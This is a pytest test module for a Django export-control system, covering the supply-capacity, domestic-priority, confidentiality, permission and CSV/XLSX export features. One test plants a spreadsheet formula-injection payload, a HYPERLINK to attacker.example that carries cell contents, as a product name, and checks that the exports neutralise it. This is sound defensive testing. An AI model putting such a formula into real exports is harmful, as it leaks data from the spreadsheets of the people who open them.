"""Services, the application check, domestic priority end to end, confidentiality, the permission matrix, the
pages and the CSV/XLSX exports."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from excon.accounts.tests.factories import OrganisationFactory, UserFactory, user_with_role
from excon.audit.models import AuditEntry
from excon.core.errors import Conflict, DomainError, NotFound, PermissionDenied, ValidationError
from excon.core.markings import ProtectiveMarking
from excon.core.roles import Role
from excon.licences import services as licence_services
from excon.licences.enums import LicenceStatus
from excon.licences.models import LicenceLine
from excon.licences.tests.factories import direct_licence
from excon.products.models import Product
from excon.products.tests.factories import control_entry
from excon.supply import checks, selectors, services
from excon.supply.arithmetic import Period
from excon.supply.models import CapacityDeclaration

from .factories import authority_senior, declare, ministry_user, requirement

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():  # type: ignore[no-untyped-def]
    from excon.applications.tests.factories import licensing_world

    return licensing_world()


def licence_for(product, quantity: int, shipped: int = 0, number: str = "LIC-TEST-000001"):  # type: ignore[no-untyped-def]
    licence = direct_licence(product.manufacturer, quantity=quantity, number=number)
    LicenceLine.objects.filter(licence=licence).update(product=product, shipped_quantity=shipped)
    return licence


def code_of(excinfo: Any) -> str:
    return excinfo.value.code


# Declarations --------------------------------------------------------------------------------------------------


def test_declarations_are_versioned_and_corrections_marked(world) -> None:  # type: ignore[no-untyped-def]
    first = declare(world.exporter, world.product, 40, 5)
    second = declare(world.exporter, world.product, 30, 5)
    first.refresh_from_db()
    assert first.superseded_at is not None
    assert second.version == 2
    ministry = ministry_user()
    corrected = services.capacity_correct(
        actor=ministry, declaration=second, capacity=25, stock=5, reason="line 2 under maintenance"
    )
    assert (corrected.version, corrected.source, corrected.reason) == (
        3,
        "ministry_correction",
        "line 2 under maintenance",
    )
    assert CapacityDeclaration.objects.filter(product=world.product).count() == 3
    verbs = list(AuditEntry.objects.filter(verb__startswith="supply.capacity").values_list("verb", flat=True))
    assert verbs == ["supply.capacity_declared", "supply.capacity_declared", "supply.capacity_corrected"]
    with pytest.raises(Conflict) as excinfo:
        services.capacity_correct(actor=ministry, declaration=second, capacity=1, stock=1, reason="stale")
    assert code_of(excinfo) == "supply.declaration_superseded"


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({"capacity": -1}, "supply.negative_quantity"),
        ({"stock": -5}, "supply.negative_quantity"),
        ({"quarter": 5}, "supply.invalid_quarter"),
        ({"quarter": 0}, "supply.invalid_quarter"),
        ({"year": 1900}, "supply.invalid_year"),
        ({"product_id": "not-a-uuid"}, "supply.unknown_product"),
        ({"capacity": "many"}, "supply.invalid_quantity"),
    ],
)
def test_bad_declarations_have_specific_codes(world, changes, code) -> None:  # type: ignore[no-untyped-def]
    fields = {"product_id": world.product.pk, "year": 2026, "quarter": 3, "capacity": 1, "stock": 1, **changes}
    with pytest.raises(DomainError) as excinfo:
        services.capacity_declare(actor=world.exporter, **fields)
    assert code_of(excinfo) == code
    assert not CapacityDeclaration.objects.exists()


def test_an_exporter_cannot_declare_for_anothers_product(world) -> None:  # type: ignore[no-untyped-def]
    stranger = user_with_role(Role.EXPORTER_ADMIN)
    with pytest.raises(PermissionDenied) as excinfo:
        declare(stranger, world.product, 10)
    assert code_of(excinfo) == "supply.not_manufacturer"


# Requirements, priorities, rules -------------------------------------------------------------------------------


def test_requirement_validation(world) -> None:  # type: ignore[no-untyped-def]
    ministry = ministry_user(clearance=ProtectiveMarking.RESTRICTED)
    period = selectors.current_period()
    base = {"year": period.year, "quarter": period.quarter, "quantity": 3, "kind": "state_order", "reference": "SO"}
    cases = [
        ({}, "supply.subject_required"),
        ({"product_id": world.product.pk, "control_code": "ML6"}, "supply.subject_required"),
        ({"control_code": "ML99"}, "supply.unknown_control_entry"),
        ({"product_id": world.product.pk, "quantity": -2}, "supply.negative_quantity"),
        ({"product_id": world.product.pk, "priority": 4}, "supply.invalid_priority"),
        ({"product_id": world.product.pk, "marking": "secret"}, "supply.marking_above_clearance"),
    ]
    for extra, code in cases:
        with pytest.raises(DomainError) as excinfo:
            services.requirement_record(actor=ministry, **{**base, **extra})
        assert code_of(excinfo) == code, extra
    with pytest.raises(PermissionDenied):
        services.requirement_record(actor=world.exporter, product_id=world.product.pk, **base)


def test_overlapping_priorities_are_refused(world) -> None:  # type: ignore[no-untyped-def]
    ministry = ministry_user()
    services.priority_place(
        actor=ministry, control_code="ML6", start="2026-01-01", end="2026-06-30", reason="mobilisation"
    )
    with pytest.raises(Conflict) as excinfo:
        services.priority_place(
            actor=ministry, control_code="ML6", start="2026-06-01", end="2026-12-31", reason="again"
        )
    assert code_of(excinfo) == "supply.priority_overlap"
    with pytest.raises(ValidationError) as excinfo:
        services.priority_place(actor=ministry, control_code="ML4", start="2026-06-01", end="2026-01-01", reason="x")
    assert code_of(excinfo) == "supply.invalid_period"
    # another category, or after the first ends, is fine
    services.priority_place(actor=ministry, control_code="ML4", start="2026-01-01", end="2026-06-30", reason="x")
    services.priority_place(actor=ministry, control_code="ML6", start="2026-07-01", end="2026-12-31", reason="y")


def test_surplus_for_a_product_counts_category_shares_and_licences(world) -> None:  # type: ignore[no-untyped-def]
    ministry = ministry_user()
    declare(world.exporter, world.product, 30, 10)
    requirement(ministry, 5, product=world.product)
    requirement(ministry, 8, category="ML6")  # the only ML6 product carries all of it
    licence_for(world.product, 10, shipped=3)
    breakdown = selectors.breakdowns_for([world.product], selectors.current_period())[world.product.pk]
    assert (breakdown.domestic_requirement, breakdown.licensed_outstanding, breakdown.surplus) == (13, 7, 40 - 13 - 7)


# The check -----------------------------------------------------------------------------------------------------


def test_check_passes_within_surplus_and_fails_beyond(world) -> None:  # type: ignore[no-untyped-def]
    from excon.applications.tests.factories import complete_draft

    declare(world.exporter, world.product, 15, 0)
    requirement(ministry_user(), 4, product=world.product)
    result = checks.check_domestic_supply(complete_draft(world, quantity=10))
    assert result.outcome == "pass", result.summary
    assert result.details["products"][0]["surplus"] == 11
    result = checks.check_domestic_supply(complete_draft(world, quantity=12))
    assert result.outcome == "fail"
    assert result.details["code"] == "application.exceeds_surplus"
    item = result.details["products"][0]
    assert (item["requested"], item["capacity"], item["domestic_requirement"], item["surplus"]) == (12, 15, 4, 11)


def test_surplus_rule_turns_the_excess_into_a_warning(world) -> None:  # type: ignore[no-untyped-def]
    from excon.applications.tests.factories import complete_draft

    declare(world.exporter, world.product, 5, 0)
    services.rule_set(actor=world.senior, prefix="ML6", mode="warning", note="vehicles: the commission weighs it")
    result = checks.check_domestic_supply(complete_draft(world, quantity=10))
    assert result.outcome == "warning"
    assert result.details["products"][0]["rule"] == "ML6"
    services.rule_set(actor=world.senior, prefix="ML6.a", mode="fail")  # the longer prefix wins
    assert checks.check_domestic_supply(complete_draft(world, quantity=10)).outcome == "fail"
    assert AuditEntry.objects.filter(verb="supply.rule_set").count() == 2
    with pytest.raises(PermissionDenied):
        services.rule_set(actor=world.officer, prefix="ML6", mode="fail")


def test_listed_surplus_equipment_is_limited_by_quantity_available(world) -> None:  # type: ignore[no-untyped-def]
    from excon.applications import services as application_services
    from excon.applications.tests.factories import complete_draft, decided_product

    ministry = ministry_user()
    trader = OrganisationFactory(name="State Trading Company")
    listing = services.equipment_list_item(
        actor=ministry,
        item="Armoured personnel carrier BTR-70",
        designation="BTR-70",
        quantity=6,
        condition="serviceable",
        location="Base 1",
        origin="USSR, 1985",
        trader_id=trader.pk,
    )
    product = listing.product
    assert product is not None
    assert product.condition == "second_hand"
    assert product.manufacturer == trader
    assert product.status == "draft"
    trader_user = UserFactory(organisation=trader, roles=[Role.EXPORTER_ADMIN])
    # the registry's own workflow classifies it; here a product of the same shape stands in for the decision
    decided = decided_product(trader_user, world.expert, designation="BTR-70M")
    listing.product = decided
    listing.save()
    decided.condition = "second_hand"
    decided.save()
    world.exporter = trader_user
    world.product = decided
    application = complete_draft(world, quantity=4)
    assert checks.check_domestic_supply(application).outcome == "pass"
    application_services.goods_line_add(
        actor=trader_user, application=application, product_id=decided.pk, quantity=3, unit_value="1", currency="EUR"
    )
    result = checks.check_domestic_supply(application)
    assert result.outcome == "fail"
    assert result.details["products"][0]["requested"] == 7
    assert result.details["products"][0]["basis"] == "surplus_equipment"
    with pytest.raises(ValidationError) as excinfo:
        services.equipment_list_item(
            actor=ministry,
            item="x",
            designation="Y",
            quantity=1,
            condition="serviceable",
            location="l",
            origin="o",
            trader_id=world.authority.pk,
        )
    assert code_of(excinfo) == "supply.trader_not_exporter"


def test_domestic_priority_end_to_end(world) -> None:  # type: ignore[no-untyped-def]
    from excon.applications.tests.factories import complete_draft

    declare(world.exporter, world.product, 100, 0)
    affected = licence_for(world.product, 10, number="LIC-TEST-000001")
    other = direct_licence(OrganisationFactory(), number="LIC-TEST-000002")
    LicenceLine.objects.filter(licence=other).update(control_entry=control_entry("ML4.a"))
    ministry = ministry_user()
    today = selectors.current_period()
    priority = services.priority_place(
        actor=ministry, control_code="ML6", start=today.start, end=today.end, reason="Brigade re-equipment"
    )
    result = checks.check_domestic_supply(complete_draft(world, quantity=1))
    assert result.outcome == "fail"
    assert result.details["code"] == "application.domestic_priority"
    assert result.details["products"][0]["priorities"][0]["reason"] == "Brigade re-equipment"
    with pytest.raises(PermissionDenied):
        licence_services.licences_suspend_for_priority(actor=ministry, priority=priority)
    bulk = licence_services.licences_suspend_for_priority(actor=world.senior, priority=priority)
    assert sorted(bulk.licences.values_list("number", flat=True)) == ["LIC-TEST-000001"]
    affected.refresh_from_db()
    other.refresh_from_db()
    assert affected.status == LicenceStatus.SUSPENDED
    assert other.status == LicenceStatus.ACTIVE
    assert "Brigade re-equipment" in bulk.reason
    audit = AuditEntry.objects.get(verb="supply.priority_licences_suspended")
    assert audit.payload["licences"] == ["LIC-TEST-000001"]
    services.priority_lift(actor=ministry, priority=priority, reason="re-equipment done")
    assert AuditEntry.objects.filter(verb="supply.priority_lifted").exists()
    assert checks.check_domestic_supply(complete_draft(world, quantity=1)).outcome == "pass"
    with pytest.raises(Conflict):
        services.priority_lift(actor=ministry, priority=priority, reason="again")


# Confidentiality -----------------------------------------------------------------------------------------------


def test_requirement_rows_follow_clearance_and_never_reach_exporters(world) -> None:  # type: ignore[no-untyped-def]
    ministry = ministry_user()
    open_row = requirement(ministry, 2, product=world.product, reference="SO-OPEN", marking="restricted")
    requirement(ministry, 3, product=world.product, reference="SO-SECRET", marking="confidential")
    cleared = user_with_role(Role.CASE_OFFICER, clearance=ProtectiveMarking.CONFIDENTIAL)
    uncleared = user_with_role(Role.CASE_OFFICER, clearance=ProtectiveMarking.RESTRICTED)
    assert {r.reference for r in selectors.requirement_list(actor=cleared)} == {"SO-OPEN", "SO-SECRET"}
    assert [r.pk for r in selectors.requirement_list(actor=uncleared)] == [open_row.pk]
    with pytest.raises(PermissionDenied):
        selectors.requirement_list(actor=world.exporter)
    with pytest.raises(NotFound):
        selectors.requirement_get(actor=world.exporter, requirement_id=open_row.pk)
    periods = [selectors.current_period()]
    exporter_view = selectors.product_surplus(actor=world.exporter, product=world.product, periods=periods)[0]
    assert exporter_view.requirements == ()
    assert exporter_view.domestic_requirement == 5
    uncleared_view = selectors.product_surplus(actor=uncleared, product=world.product, periods=periods)[0]
    assert [r.reference for r in uncleared_view.requirements] == ["SO-OPEN"]
    assert uncleared_view.hidden_requirements == 1


def _login(client: Client, user) -> Client:  # type: ignore[no-untyped-def]
    client.force_login(user)
    return client


def test_pages_hide_requirements_from_exporters_and_uncleared_users(world) -> None:  # type: ignore[no-untyped-def]
    ministry = ministry_user()
    requirement(ministry, 2, product=world.product, reference="SO-OPEN", marking="restricted")
    requirement(ministry, 3, product=world.product, reference="SO-SECRET", marking="confidential")
    url = reverse("supply:requirements")
    assert _login(Client(), world.exporter).get(url).status_code == 404
    page = _login(Client(), user_with_role(Role.CASE_OFFICER, clearance="restricted")).get(url)
    assert page.status_code == 200
    assert b"SO-OPEN" in page.content
    assert b"SO-SECRET" not in page.content
    page = _login(Client(), ministry).get(url)
    assert b"SO-SECRET" in page.content
    product_page = _login(Client(), world.exporter).get(reverse("supply:product", args=[world.product.pk]))
    assert product_page.status_code == 200
    assert b"SO-OPEN" not in product_page.content


# Permission matrix ---------------------------------------------------------------------------------------------

ROLES = ["exporter", "ministry", "senior", "officer", "customs"]
PAGES = {
    "supply:declaration_create": {"exporter"},
    "supply:requirements": {"ministry", "senior", "officer"},
    "supply:requirement_create": {"ministry"},
    "supply:priorities": {"ministry", "senior", "officer"},
    "supply:priority_create": {"ministry"},
    "supply:rules": {"ministry", "senior", "officer"},
    "supply:equipment_create": {"ministry"},
    "supply:dashboard": {"ministry", "senior", "officer"},
}


@pytest.mark.parametrize("role", ROLES)
def test_page_permission_matrix(world, role) -> None:  # type: ignore[no-untyped-def]
    users = {
        "exporter": world.exporter,
        "ministry": ministry_user(),
        "senior": world.senior,
        "officer": world.officer,
        "customs": user_with_role(Role.CUSTOMS_OFFICER),
    }
    client = _login(Client(), users[role])
    for name, allowed in PAGES.items():
        status = client.get(reverse(name)).status_code
        assert status == (200 if role in allowed else 404), (name, role, status)


def test_service_permission_matrix(world) -> None:  # type: ignore[no-untyped-def]
    ministry, senior = ministry_user(), authority_senior()
    period = selectors.current_period()
    declaration = declare(world.exporter, world.product, 5)
    for actor, allowed in [(world.exporter, False), (world.officer, False), (ministry, True), (senior, True)]:
        try:
            declaration = services.capacity_correct(
                actor=actor, declaration=declaration, capacity=4, stock=0, reason="check"
            )
            assert allowed
        except PermissionDenied:
            assert not allowed
    for actor, allowed in [(world.exporter, False), (senior, False), (ministry, True)]:
        try:
            services.requirement_record(
                actor=actor,
                product_id=world.product.pk,
                year=period.year,
                quarter=period.quarter,
                quantity=1,
                kind="planned_procurement",
                reference="PP-1",
            )
            assert allowed
        except PermissionDenied:
            assert not allowed


# Dashboard and exports -----------------------------------------------------------------------------------------


def test_dashboard_and_its_csv_and_xlsx(world) -> None:  # type: ignore[no-untyped-def]
    ministry = ministry_user()
    period = selectors.current_period()
    declare(world.exporter, world.product, 30, 10)
    requirement(ministry, 8, category="ML6")
    licence_for(world.product, 10, shipped=0)
    data = selectors.dashboard(actor=world.officer, category="ml6", year=period.year)
    total = next(row for row in data.totals if row.period == period.label)
    assert (total.capacity, total.stock, total.domestic_requirement, total.licensed_outstanding, total.surplus) == (
        30,
        10,
        8,
        10,
        22,
    )
    client = _login(Client(), world.officer)
    query = {"category": "ML6", "year": period.year}
    page = client.get(reverse("supply:dashboard"), query)
    assert page.status_code == 200
    assert b"supply-chart-data" in page.content
    assert b"chart.umd.min.js" in page.content
    response = client.get(reverse("supply:dashboard_csv"), query)
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["category", "period", "product"]
    assert ["ML6", period.label, "(all products)", "30", "10", "8", "10", "0", "22"] in rows
    assert ["ML6", period.label, world.product.designation, "30", "10", "8", "10", "0", "22"] in rows
    response = client.get(reverse("supply:dashboard_xlsx"), query)
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0][0] == "category"
    assert ["ML6", period.label, "(all products)", 30, 10, 8, 10, 0, 22] in values
    assert client.get(reverse("supply:dashboard"), {"category": "ML99", "year": period.year}).status_code == 200
    assert _login(Client(), world.exporter).get(reverse("supply:dashboard_csv"), query).status_code == 404


def test_an_exporters_formula_designation_comes_out_neutralised_in_csv_and_xlsx(world) -> None:  # type: ignore[no-untyped-def]
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    Product.objects.filter(pk=world.product.pk).update(designation=hostile)  # as the exporter could have typed it
    period = selectors.current_period()
    declare(world.exporter, world.product, 30, 10)
    client = _login(Client(), world.officer)
    query = {"category": "ML6", "year": period.year}
    rows = list(csv.reader(io.StringIO(client.get(reverse("supply:dashboard_csv"), query).content.decode())))
    assert ["ML6", period.label, "'" + hostile, "30", "10", "0", "0", "0", "40"] in rows
    sheet = load_workbook(io.BytesIO(client.get(reverse("supply:dashboard_xlsx"), query).content)).active
    cells = [row for row in sheet.iter_rows(min_row=2) if (row[1].value, row[2].value) == (period.label, "'" + hostile)]
    assert cells[0][2].value == "'" + hostile
    assert cells[0][2].data_type == "s"  # text, not a formula ("f")
    assert cells[0][3].value == 30


def test_declaration_page_posts_through_the_service(world) -> None:  # type: ignore[no-untyped-def]
    client = _login(Client(), world.exporter)
    url = reverse("supply:declaration_create")
    bad = client.post(url, {"product": world.product.pk, "year": 2026, "quarter": 2, "capacity": -4, "stock": 0})
    assert bad.status_code == 200
    assert b"cannot be negative" in bad.content
    assert not CapacityDeclaration.objects.exists()
    ok = client.post(url, {"product": world.product.pk, "year": 2026, "quarter": 2, "capacity": 4, "stock": 0})
    assert ok.status_code == 302
    assert CapacityDeclaration.objects.get().capacity == 4


def test_period_helpers() -> None:
    assert selectors.upcoming_periods(3, Period(2026, 4)) == [Period(2026, 4), Period(2027, 1), Period(2027, 2)]


def test_rule_page_saves_through_the_service_and_refuses_others(world) -> None:  # type: ignore[no-untyped-def]
    control_entry("ML6")
    senior = authority_senior()
    client = _login(Client(), senior)
    url = reverse("supply:rules")
    bad = client.post(url, {"entry_prefix": "ML999", "mode": "warning"})
    assert bad.status_code == 200
    assert not selectors.rule_list(actor=senior).exists()
    ok = client.post(url, {"entry_prefix": "ML6", "mode": "warning", "note": "allies"})
    assert ok.status_code == 302
    assert [(rule.prefix, rule.mode) for rule in selectors.rule_list(actor=senior)] == [("ML6", "warning")]
    assert AuditEntry.objects.filter(verb__startswith="supply.rule").exists()
    assert _login(Client(), world.exporter).post(url, {"entry_prefix": "ML6", "mode": "fail"}).status_code == 404


def test_equipment_page_lists_surplus_through_the_service(world) -> None:  # type: ignore[no-untyped-def]
    from excon.supply.models import SurplusEquipment

    ministry = ministry_user()
    client = _login(Client(), ministry)
    url = reverse("supply:equipment_create")
    form_page = client.get(url)
    assert form_page.status_code == 200
    fields = {
        "item": "Armoured personnel carrier, tracked",
        "designation": "MT-LB surplus",
        "quantity": -3,
        "condition": "serviceable",
        "location": "Depot 12",
        "origin": "Kharkiv tractor plant, 1985, 30 years of service",
        "trader_id": str(world.exporter_org.pk),
    }
    bad = client.post(url, fields)
    assert bad.status_code == 200
    assert not SurplusEquipment.objects.exists()
    fields["quantity"] = 20
    ok = client.post(url, fields)
    assert ok.status_code == 302, ok.content[:500]
    listing = SurplusEquipment.objects.get()
    assert listing.quantity_available == 20
    assert listing.product.condition == "second_hand"
    assert _login(Client(), world.exporter).post(url, fields).status_code in (403, 404)


def test_list_pages_have_bounded_queries(world, django_assert_max_num_queries) -> None:  # type: ignore[no-untyped-def]
    product = world.product
    ministry = ministry_user()
    for quarter in (1, 2, 3, 4):
        declare(world.exporter, product, 10 * quarter, period=Period(2027, quarter))
        requirement(ministry, 3, product=product, period=Period(2027, quarter))
    client = _login(Client(), authority_senior())
    for name in ("supply:declarations", "supply:requirements", "supply:priorities", "supply:equipment"):
        with django_assert_max_num_queries(15):
            assert client.get(reverse(name)).status_code == 200


def test_equipment_availability_page_changes_it_through_the_service(world) -> None:  # type: ignore[no-untyped-def]
    from excon.supply.models import SurplusEquipment

    ministry = ministry_user()
    client = _login(Client(), ministry)
    client.post(
        reverse("supply:equipment_create"),
        {
            "item": "Towed howitzer",
            "designation": "D-30 surplus",
            "quantity": 12,
            "condition": "serviceable",
            "location": "Depot 7",
            "origin": "1978, stored since 2015",
            "trader_id": str(world.exporter_org.pk),
        },
    )
    listing = SurplusEquipment.objects.get()
    url = reverse("supply:equipment_adjust", args=[listing.pk])
    assert f'href="{url}"' in client.get(reverse("supply:equipment")).content.decode()
    too_many = client.post(url, {"quantity_available": 40, "reason": "miscount"})
    assert too_many.status_code == 200
    listing.refresh_from_db()
    assert listing.quantity_available == 12
    assert client.post(url, {"quantity_available": 9, "reason": "three returned to service"}).status_code == 302
    listing.refresh_from_db()
    assert listing.quantity_available == 9
    assert AuditEntry.objects.filter(target_id=str(listing.pk)).exists()
    assert _login(Client(), world.exporter).get(url).status_code == 404
